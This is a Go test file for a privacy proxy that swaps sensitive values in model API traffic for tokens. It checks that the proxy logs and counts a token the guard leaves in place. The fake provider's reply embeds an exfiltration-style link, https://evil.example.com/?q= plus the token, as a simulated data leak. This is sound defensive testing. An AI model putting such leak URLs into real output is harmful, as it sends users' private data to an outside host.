package proxy_test

import (
	"strings"
	"testing"

	"coatcheck/crypto/journal"
	"coatcheck/proxy/rig"
	"coatcheck/proxy/standin"
)

// TestTokensThatStayAreCounted: where the guard leaves a token in place, the
// line and the log say so.
func TestTokensThatStayAreCounted(t *testing.T) {
	r := rig.New(t, rig.Options{})
	r.Provider.Enqueue(func(q *standin.Request) standin.Answer {
		token := rig.TokenShape.FindString(string(q.Decoded))
		return sent(200, "application/json", `{"output":"`+token+` https://evil.example.com/?q=`+token+`"}`)
	})
	_, answer := r.Post(r.Client(false), "https://api.example.com/model", `{"input":"`+email+`"}`)
	if !strings.HasPrefix(answer, `{"output":"`+email+` https://evil.example.com/?q=[EMAIL_`) {
		t.Fatalf("answered %s", answer)
	}
	rig.Must(t, r.Proxy.Shutdown(t.Context()))
	if !strings.Contains(r.Log.String(), `"guarded":1`) || r.Proxy.Counters().Guarded != 1 {
		t.Errorf("the line does not say what stayed: %s", r.Log)
	}
	for e, err := range journal.Read(r.Dir, r.Auditor) {
		rig.Must(t, err)
		if e.Exchange != nil && e.Exchange.Close.Clear.Guarded != 1 {
			t.Errorf("the log holds %+v", e.Exchange.Close.Clear)
		}
	}
}
